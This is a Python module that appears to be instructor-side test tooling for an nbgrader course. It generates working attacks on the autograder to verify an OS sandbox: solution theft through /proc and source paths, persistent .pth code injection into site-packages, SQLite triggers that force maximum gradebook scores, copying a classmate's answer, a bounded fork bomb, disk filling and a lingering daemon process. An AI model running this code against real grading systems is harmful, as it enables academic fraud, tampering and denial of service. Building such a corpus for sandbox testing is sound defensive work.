"""The extended tampering corpus: attempts that only the OS sandbox (``course.sandbox``) stops, for any assignment.

Instructor side (top layer, beside ``course.classroom``, whose ``tamper_class`` holds the attempts that Python-level
defences already stop). The instructor's tests (``tests/test_sandbox_attacks.py``) grade this corpus with and
without the sandbox, and the demo can add it to a class. ``sandbox_attacks(assignment)`` gives one Attempt per
class of attack, all generated from the registry (``course.assignments``): the target is the assignment's
``tamper.function``, whose own answer is made wrong, and the attack code is put before its answer cell
(``prefix``) and at the top of its body (``body``, which calls the stolen function when there is one).

Every attempt is written so that it WOULD earn the target's points when graded without the sandbox, both in
nbgrader's kernel and in the verification process (the final score is the lower of the two), and fails quietly
inside the sandbox (everything is in try/except: the rest of the notebook runs). Each prints one line,
``REPORT_TAG {json}``, in its answer cell's output, saying what it found and did; the tests read it from the
autograded notebook. The classes:

1. ``import-course``: imports the instructor package and executes the target's reference solution;
2. ``relative-source``: walks up from its working directory and from its ancestors' (the grading driver's, read
   through ``/proc/PID/cwd``) to a folder that holds ``source/ASSIGNMENT/NOTEBOOK``, directly or one folder down (a
   course root, or a repository with the course in ``notebooks/``); the verification process has no such path
   and takes the solution from a ``.pth`` file the kernel left in site-packages (class 3);
   ``package-path-source``: finds the repository from ``reg_utils.__file__`` and reads the source notebook there;
3. ``pth-persist``: the kernel writes ``PTH_PREFIX + STUDENT + .pth`` into site-packages, a line that puts the
   solution into ``builtins`` of every later Python process: the verification process takes it from there;
4. ``gradebook-trigger``: finds the course gradebook that an ancestor process (the grading driver) holds open,
   through ``/proc/PID/fd``, and adds SQLite triggers that set ``manual_score`` to the cell's maximum whenever the
   grader writes this student's grades; it also tries PostgreSQL's socket and TCP port (to be unreachable);
5. ``rewrite-submission``: rewrites the submitted notebook files it can find with the reference solution while it
   runs. The grader grades the bytes it read before any code ran, so this earns nothing even without the sandbox
   (``sandbox_only=False``);
6. ``copy-classmate``: finds the course root as in 4 and copies the answer of the classmate ``CLASSMATE`` (the
   class must hold an honest submission under that name: ``honest_classmate``);
7. robustness, earning nothing in any case (``sandbox_only=False``; the sandbox confines the damage):
   ``fork-bomb`` (bounded: FORK_BOMB_FORKS forks or FORK_BOMB_SECONDS, then the whole group is killed and reaped),
   ``big-file`` (BIG_FILE_BYTES allocated, or else written, in an unlinked temporary file in the working directory
   and in /tmp: the space is freed as soon as the file is closed) and ``background-process`` (a daemonized
   ``sleep 600`` whose argv[0] is MARKER, started in the kernel and in the verification process).

Without the sandbox these attacks really run, with the grader's rights: whoever grades them so (the tests) must
remove the ``.pth`` files (``pth_files``) and end the MARKER processes (``lingering_processes``) afterwards.
"""

import ast
import os
import re
import sysconfig
from pathlib import Path

from course.assignment import ROOT
from course.classroom import Attempt, submission

#: The student id whose submission copy-classmate copies; honest_classmate() is that submission.
CLASSMATE = "honest"
#: What every attempt's report line starts with.
REPORT_TAG = "course-attack-report"
#: argv[0] of the background process background-process leaves behind.
MARKER = "course-attack-lingering-sleep"
#: File names of the .pth files the attempts write start with this.
PTH_PREFIX = "course-attack-"
#: Bounds that keep the fork bomb harmless without the sandbox (which stops it at Limits.processes far earlier).
FORK_BOMB_FORKS = 2000
FORK_BOMB_SECONDS = 3
#: What big-file tries to write in each of its two folders.
BIG_FILE_BYTES = 1024 ** 3

# ---------------------------------------------------------------------------------------------------------------
# The attack code, as text. @NAME@ placeholders are replaced by Python literals (repr) when an attempt is built.

_COMMON = '''
import json as _attack_json
import os as _attack_os
import sys as _attack_sys

_attack_report = {"attempt": @STUDENT@, "in_kernel": "ipykernel" in _attack_sys.modules}
_attack_stolen = None


def _attack_walk_up(folder):
    """The folder and each of its parents."""
    folder = _attack_os.path.abspath(folder)
    while True:
        yield folder
        parent = _attack_os.path.dirname(folder)
        if parent == folder:
            return
        folder = parent


def _attack_answer_cell(path, grade_id):
    """The source of a notebook file's cell with this grade_id, or None."""
    with open(path, encoding="utf-8") as f:
        cells = _attack_json.load(f).get("cells", [])
    for cell in cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            source = cell.get("source", "")
            return source if isinstance(source, str) else "".join(source)
    return None


def _attack_ancestors():
    """The pids of this process's ancestors, parent first (pid 1 excluded)."""
    pids, pid = [], _attack_os.getpid()
    while True:
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        if pid <= 1:
            return pids
        pids.append(pid)


def _attack_course_roots():
    """Folders whose gradebook.db an ancestor (the grading driver, its workers) holds open, except the private
    copy this process runs in."""
    here = _attack_os.path.realpath(_attack_os.getcwd()) + "/"
    roots = []
    for pid in _attack_ancestors():
        try:
            fds = _attack_os.listdir("/proc/%d/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            try:
                target = _attack_os.readlink("/proc/%d/fd/%s" % (pid, fd))
            except OSError:
                continue
            root = _attack_os.path.dirname(target)
            if target.endswith("/gradebook.db") and root not in roots and not here.startswith(root + "/"):
                roots.append(root)
    _attack_report["course_roots"] = roots
    return roots


def _attack_by_import():
    from course.assignments import get_assignment

    return get_assignment(@ASSIGNMENT@).solution_sources()[@FUNCTION@]


def _attack_by_package_path():
    import reg_utils

    for folder in _attack_walk_up(_attack_os.path.dirname(reg_utils.__file__)):
        path = _attack_os.path.join(folder, @REPO_SOURCE@)
        if _attack_os.path.isfile(path):
            return _attack_answer_cell(path, @FUNCTION@)
    return None


def _attack_first_source(*routes):
    """The first solution source one of the routes gives; every failure goes into the report."""
    for route in routes:
        try:
            source = route()
        except Exception as exc:
            _attack_report.setdefault("failed", []).append("%s: %s: %s" % (route.__name__, type(exc).__name__, exc))
            continue
        if source:
            _attack_report["route"] = route.__name__
            return source
    return None


def _attack_persist(source):
    """Write a .pth file into site-packages that gives every later Python process the source in builtins."""
    import site

    folders = list(site.getsitepackages())
    try:
        import numpy
        folders.append(_attack_os.path.dirname(_attack_os.path.dirname(numpy.__file__)))
    except Exception:
        pass
    line = "import builtins; builtins.__dict__.setdefault(%s, %s)\\n" % (ascii(@KEY@), ascii(source or ""))
    for folder in dict.fromkeys(folders):
        path = _attack_os.path.join(folder, @PTH_NAME@)
        try:
            with open(path, "w", encoding="ascii") as f:
                f.write(line)
            _attack_report["pth"] = path
            return
        except OSError as exc:
            _attack_report.setdefault("pth_refused", []).append("%s: %s" % (type(exc).__name__, exc))


def _attack_persisted():
    """What a .pth file of this attempt put into builtins when this process started, or None."""
    import builtins

    source = builtins.__dict__.get(@KEY@)
    _attack_report["from_pth"] = bool(source)
    return source
'''

_TAIL = '''
try:
    _attack_source = _attack_steal()
    if _attack_source:
        exec(compile(_attack_source, "<stolen answer>", "exec"), globals())
        _attack_stolen = globals().get(@FUNCTION@)
except Exception as _attack_exc:
    _attack_report["error"] = ("%s: %s" % (type(_attack_exc).__name__, _attack_exc))[:300]
_attack_report["stole"] = _attack_stolen is not None
print(@REPORT_TAG@, _attack_json.dumps(_attack_report, default=str))
'''

_IMPORT_COURSE = '''
def _attack_steal():
    return _attack_first_source(_attack_by_import)
'''

_RELATIVE_SOURCE = '''
def _attack_working_dirs():
    """This process's working directory, then its ancestors' (the grader's), through /proc/PID/cwd."""
    folders = [_attack_os.getcwd()]
    for pid in _attack_ancestors():
        try:
            folders.append(_attack_os.readlink("/proc/%d/cwd" % pid))
        except OSError:
            continue
    return list(dict.fromkeys(folders))


def _attack_relative_candidates(folder):
    """Where a course root near this folder keeps the source notebook: directly, or one folder down."""
    yield _attack_os.path.join(folder, "source", @ASSIGNMENT@, @NOTEBOOK@)
    try:
        children = sorted(_attack_os.listdir(folder))
    except OSError:
        return
    for child in children:
        yield _attack_os.path.join(folder, child, "source", @ASSIGNMENT@, @NOTEBOOK@)


def _attack_steal():
    for start in _attack_working_dirs():
        for folder in _attack_walk_up(start):
            for path in _attack_relative_candidates(folder):
                if _attack_os.path.isfile(path):
                    _attack_report["found"] = path
                    source = _attack_answer_cell(path, @FUNCTION@)
                    _attack_persist(source)  # for the verification process, which has no such relative path
                    return source
    return _attack_persisted()
'''

_PACKAGE_PATH_SOURCE = '''
def _attack_steal():
    return _attack_first_source(_attack_by_package_path)
'''

_PTH_PERSIST = '''
def _attack_steal():
    if not _attack_report["in_kernel"]:
        return _attack_persisted()  # the only route here: what the kernel's .pth file left
    source = _attack_first_source(_attack_by_import, _attack_by_package_path)
    _attack_persist(source)  # written even with nothing stolen: inside the sandbox the write itself must fail
    return source
'''

_GRADEBOOK_TRIGGER = '''
def _attack_postgres():
    """Whether PostgreSQL's usual socket and TCP port answer."""
    import socket

    reached = {}
    for label, family, address in (("unix", socket.AF_UNIX, "/var/run/postgresql/.s.PGSQL.5432"),
                                   ("tcp", socket.AF_INET, ("127.0.0.1", 5432))):
        probe = socket.socket(family, socket.SOCK_STREAM)
        probe.settimeout(2)
        try:
            probe.connect(address)
            reached[label] = "connected"
        except OSError as exc:
            reached[label] = type(exc).__name__
        finally:
            probe.close()
    return reached


def _attack_steal():
    import sqlite3

    _attack_report["triggers"] = []
    for root in _attack_course_roots():
        path = _attack_os.path.join(root, "gradebook.db")
        connection = sqlite3.connect(path, timeout=30)
        try:
            connection.executescript(@TRIGGERS@)
        finally:
            connection.close()
        _attack_report["triggers"].append(path)
    _attack_report["postgres"] = _attack_postgres()
    return None  # nothing stolen: the points come from the gradebook itself
'''

_TRIGGER_SQL = '''
CREATE TRIGGER IF NOT EXISTS "course_attack_@NAME@_@LABEL@" AFTER @EVENT@ ON grade
WHEN NEW.notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id
                         WHERE a.student_id = '@STUDENT@')
BEGIN
    UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) WHERE id = NEW.id;
END;
'''

_REWRITE_SUBMISSION = '''
def _attack_rewrite(path, source):
    with open(path, encoding="utf-8") as f:
        nb = _attack_json.load(f)
    for cell in nb.get("cells", []):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == @FUNCTION@:
            cell["source"] = source
    with open(path, "w", encoding="utf-8") as f:
        _attack_json.dump(nb, f)


def _attack_steal():
    _attack_report["rewrote"] = []
    source = _attack_first_source(_attack_by_import, _attack_by_package_path)
    if not _attack_report["in_kernel"] or not source:
        return None
    here = _attack_os.getcwd()
    paths = [_attack_os.path.join(here, @NOTEBOOK@),
             _attack_os.path.normpath(_attack_os.path.join(here, "..", "..", "..", "submitted", @SUBMITTED@))]
    paths += [_attack_os.path.join(root, "submitted", @SUBMITTED@) for root in _attack_course_roots()]
    for path in paths:
        try:
            if _attack_os.path.isfile(path):
                _attack_rewrite(path, source)
                _attack_report["rewrote"].append(path)
        except OSError as exc:
            _attack_report.setdefault("refused", []).append("%s: %s" % (type(exc).__name__, exc))
    return None  # its own answer stays wrong: it scores only if the grader reads the rewritten files
'''

_COPY_CLASSMATE = '''
def _attack_steal():
    for root in _attack_course_roots():
        folder = _attack_os.path.join(root, "submitted")
        others = [@CLASSMATE@] + sorted(set(_attack_os.listdir(folder)) - {@CLASSMATE@, @STUDENT@})
        for other in others:
            path = _attack_os.path.join(folder, other, @ASSIGNMENT@, @NOTEBOOK@)
            if _attack_os.path.isfile(path):
                source = _attack_answer_cell(path, @FUNCTION@)
                if source:
                    _attack_report["copied"] = path
                    return source
    return None
'''

_FORK_BOMB = '''
def _attack_note(fd):
    try:
        _attack_os.write(fd, b"x")
    except OSError:
        pass


def _attack_count(fd):
    """How many bytes wait in a non-blocking pipe."""
    count = 0
    while True:
        try:
            chunk = _attack_os.read(fd, 65536)
        except BlockingIOError:
            return count
        if not chunk:
            return count
        count += len(chunk)


def _attack_bomb(tokens, forked, refused, deadline):
    """What every process of the bomb does: fork while tokens and time remain, then wait for the deadline."""
    import gc
    import time

    gc.disable()  # no collection in the children: their memory stays shared with the kernel's
    while time.monotonic() < deadline:
        try:
            _attack_os.read(tokens, 1)
        except BlockingIOError:
            break
        try:
            child = _attack_os.fork()
        except OSError:
            _attack_note(refused)
            time.sleep(0.01)
            continue
        if child:
            _attack_note(forked)
    time.sleep(max(0.0, deadline - time.monotonic()))


def _attack_reap(until):
    """Reap every child (the bomb's orphans come back here) until none is left or the time is up."""
    import time

    while time.monotonic() < until:
        try:
            pid, _ = _attack_os.waitpid(-1, _attack_os.WNOHANG)
        except ChildProcessError:
            return
        if pid == 0:
            time.sleep(0.01)


def _attack_steal():
    import ctypes
    import signal
    import time

    if not _attack_report["in_kernel"]:
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: orphans of the bomb become children of this process
    pipes = [_attack_os.pipe() for _ in range(3)]
    for fd in sum(pipes, ()):
        _attack_os.set_blocking(fd, False)
    (tokens, tokens_w), (forked_r, forked), (refused_r, refused) = pipes
    _attack_os.write(tokens_w, b"x" * @FORKS@)  # one token per fork: never more than that many processes
    deadline = time.monotonic() + @SECONDS@
    leader = _attack_os.fork()
    if leader == 0:
        try:
            _attack_os.setpgid(0, 0)
            _attack_bomb(tokens, forked, refused, deadline)
        finally:
            _attack_os._exit(0)  # no process of the bomb ever returns into the notebook
    try:
        _attack_os.setpgid(leader, leader)
    except OSError:
        pass
    try:
        while time.monotonic() < deadline + 1 and not _attack_os.waitpid(leader, _attack_os.WNOHANG)[0]:
            time.sleep(0.05)
    finally:
        try:
            _attack_os.killpg(leader, signal.SIGKILL)
        except OSError:
            pass
        _attack_reap(time.monotonic() + 5)
        libc.prctl(36, 0, 0, 0, 0)
    _attack_report.update(forked=_attack_count(forked_r), refused=_attack_count(refused_r))
    for fd in sum(pipes, ()):
        _attack_os.close(fd)
    return None
'''

_BIG_FILE = '''
def _attack_fill(folder, size):
    """Take size bytes of disk in a new file in folder (allocated at once, else written), unlinked first: its
    space is freed once it is closed. Returns what it took, and the first refusal."""
    import tempfile

    fd, path = tempfile.mkstemp(prefix="course-attack-big-", dir=folder)
    _attack_os.unlink(path)
    written, errors, chunk = 0, [], bytes(1 << 20)
    try:
        try:
            _attack_os.posix_fallocate(fd, 0, size)
        except OSError as exc:
            errors.append("fallocate: %s: %s" % (type(exc).__name__, exc))
            while written < size:
                written += _attack_os.write(fd, chunk)
    except OSError as exc:
        errors.append("write: %s: %s" % (type(exc).__name__, exc))
    finally:
        taken = _attack_os.fstat(fd).st_blocks * 512
        _attack_os.close(fd)
    return {"folder": folder, "taken": taken, "written": written, "errors": errors}


def _attack_steal():
    import tempfile

    if _attack_report["in_kernel"]:
        _attack_report["files"] = [_attack_fill(folder, @SIZE@) for folder in (_attack_os.getcwd(),
                                                                              tempfile.gettempdir())]
    return None
'''

_BACKGROUND_PROCESS = '''
def _attack_steal():
    child = _attack_os.fork()
    if child == 0:
        try:
            _attack_os.setsid()  # a session of its own: out of reach of a kill of the kernel's process group
            if _attack_os.fork() == 0:
                null = _attack_os.open(_attack_os.devnull, _attack_os.O_RDWR)
                for fd in (0, 1, 2):
                    _attack_os.dup2(null, fd)
                _attack_os.closerange(3, 65536)
                _attack_os.execvp("sleep", [@MARKER@, "600"])
        finally:
            _attack_os._exit(0)
    _attack_os.waitpid(child, 0)
    _attack_report["started"] = True
    return None
'''


def _fill(template, **values):
    """The template with each @NAME@ replaced by repr(values[name])."""
    for name, value in values.items():
        template = template.replace(f"@{name}@", repr(value))
    leftover = re.search(r"@[A-Z_]+@", template)
    if leftover:
        raise ValueError(f"attack code needs a value for {leftover.group()}")
    return template


def _stolen_call(assignment):
    """The body line that calls the stolen function with the target's own arguments, when there is one."""
    target = assignment.tamper.function
    tree = ast.parse(assignment.solution_sources()[target])
    node = next(n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef) and n.name == target)
    args = node.args
    parts = [a.arg for a in args.posonlyargs + args.args]
    parts += [f"*{args.vararg.arg}"] if args.vararg else []
    parts += [f"{a.arg}={a.arg}" for a in args.kwonlyargs]
    parts += [f"**{args.kwarg.arg}"] if args.kwarg else []
    return f"if _attack_stolen is not None:\n    return _attack_stolen({', '.join(parts)})\n"


def _repository_path(assignment):
    """The source notebook's path relative to the repository (what an attacker finds next to reg_utils)."""
    try:
        return str(Path(assignment.source_path).resolve().relative_to(ROOT))
    except ValueError:  # a course outside the repository: the attack can only guess the usual layout
        return os.path.join("notebooks", "source", assignment.name, assignment.notebook)


def _attempt(assignment, student, about, code, sandbox_only=True, **extra):
    """An Attempt whose target answer is wrong, preceded by the common helpers, the attack and the tail."""
    target = assignment.tamper.function
    values = dict(STUDENT=student, ASSIGNMENT=assignment.name, NOTEBOOK=assignment.notebook, FUNCTION=target,
                  REPO_SOURCE=_repository_path(assignment), KEY=f"_course_attack_{student}",
                  PTH_NAME=f"{PTH_PREFIX}{student}.pth", REPORT_TAG=REPORT_TAG, **extra)
    prefix = "".join(_fill(part, **values) for part in (_COMMON, code, _TAIL))
    expected = {name: (0 if name == target else points) for name, points in assignment.points.items()}
    return Attempt(student, about, prefix=prefix, body=_stolen_call(assignment), wrong=True, expected=expected,
                   sandbox_only=sandbox_only)


def _triggers(student):
    """SQL for the gradebook-trigger attempt: its grades get manual_score = max_score whenever they are written."""
    sql = _TRIGGER_SQL.replace("@STUDENT@", student.replace("'", "''")).replace("@NAME@", student.replace('"', ""))
    return "".join(sql.replace("@LABEL@", label).replace("@EVENT@", event)
                   for label, event in (("insert", "INSERT"), ("update", "UPDATE OF auto_score")))


def sandbox_attacks(assignment):
    """The attempts that only the OS sandbox stops, plus the ones it confines (see the module docstring).

    Returns:
    attempts -- course.classroom.Attempt list; each expects 0 for the tamper function and full points elsewhere
    """
    a = assignment
    return [
        _attempt(a, "import-course", "imports the instructor package and runs the reference solution",
                 _IMPORT_COURSE),
        _attempt(a, "relative-source", "reads the source notebook by a path relative to its own or the grader's "
                 "working directory (and leaves it in a .pth file for the verification process)", _RELATIVE_SOURCE),
        _attempt(a, "package-path-source", "reads the source notebook next to the installed reg_utils package",
                 _PACKAGE_PATH_SOURCE),
        _attempt(a, "pth-persist", "writes a .pth file into site-packages that hands the solution to the "
                 "verification process", _PTH_PERSIST),
        _attempt(a, "gradebook-trigger", "adds SQLite triggers to the grader's open gradebook that give it full "
                 "manual scores; tries PostgreSQL", _GRADEBOOK_TRIGGER, TRIGGERS=_triggers("gradebook-trigger")),
        _attempt(a, "rewrite-submission", "rewrites its submitted notebook files with the reference solution "
                 "while it runs", _REWRITE_SUBMISSION, sandbox_only=False,
                 SUBMITTED=os.path.join("rewrite-submission", a.name, a.notebook)),
        _attempt(a, "copy-classmate", f"copies the answer of classmate '{CLASSMATE}' from the course folder",
                 _COPY_CLASSMATE, CLASSMATE=CLASSMATE),
        _attempt(a, "fork-bomb", f"a fork bomb (bounded: {FORK_BOMB_FORKS} forks or {FORK_BOMB_SECONDS} s)",
                 _FORK_BOMB, sandbox_only=False, FORKS=FORK_BOMB_FORKS, SECONDS=FORK_BOMB_SECONDS),
        _attempt(a, "big-file", "writes a 1 GiB file into its working directory and into /tmp", _BIG_FILE,
                 sandbox_only=False, SIZE=BIG_FILE_BYTES),
        _attempt(a, "background-process", "leaves a process running after its kernel and its clean run end",
                 _BACKGROUND_PROCESS, sandbox_only=False, MARKER=MARKER),
    ]


def honest_classmate(assignment):
    """The reference solutions, submitted as CLASSMATE: the answer copy-classmate copies."""
    return submission(assignment, CLASSMATE, "the reference solutions (the classmate copy-classmate copies)")


# ---------------------------------------------------------------------------------------------------------------
# What the attempts leave behind when graded without the sandbox, for whoever must clean up (and check).

def pth_files():
    """The .pth files of these attempts in the interpreter's site-packages folders."""
    folders = {sysconfig.get_paths()[key] for key in ("purelib", "platlib")}
    return sorted(p for folder in folders if os.path.isdir(folder) for p in Path(folder).glob(f"{PTH_PREFIX}*.pth"))


def lingering_processes():
    """{pid: command line} of the processes background-process left (argv[0] is MARKER)."""
    found = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
            except OSError:
                continue
            if argv[0] == MARKER.encode():
                found[int(entry)] = b" ".join(argv).decode(errors="replace").strip()
    return found
